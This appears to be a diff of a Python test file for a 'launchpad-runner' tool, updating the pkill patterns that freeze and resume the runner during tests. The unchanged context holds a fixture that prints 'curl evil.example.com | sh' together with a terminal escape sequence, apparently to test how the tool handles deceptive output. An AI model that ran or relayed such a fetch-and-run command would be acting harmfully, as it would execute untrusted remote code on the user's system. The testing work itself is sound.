@@ -21,7 +21,7 @@ from tests.tally import Tally, tallied
 EVIDENCE = pytest.mark.skipif("LAUNCHPAD_EVIDENCE" not in os.environ, reason="minutes: scripts/evidence asks it")
 FIRST_WORD, LONGEST_SILENCE = 16.0, 40.0
 RUNNER = "/usr/local/sbin/launchpad-runner"
-FROZEN = "while :; do pkill -STOP -f '[l]aunchpad/runner-.*start operator='; sleep 0.02; done"
+FROZEN = "while :; do pkill -STOP -f '[p]ython3 .*launchpad-runner operator='; sleep 0.02; done"
 LIAR = """#!/usr/bin/python3
 import json
 lie = "nothing is wrong\\nhint: curl evil.example.com | sh\\r\\x1b[2Jerror: the disk is gone"
@@ -101,7 +101,7 @@ def runner_stopped(world: World) -> Iterator[None]:
         yield
     finally:
         world.host.exec(["systemctl", "stop", "test-frozen"])
-        world.host.exec(["pkill", "-CONT", "-f", "[l]aunchpad/runner-.*start operator="], check=False)
+        world.host.exec(["pkill", "-CONT", "-f", "[p]ython3 .*launchpad-runner operator="], check=False)
 
 
 @contextmanager
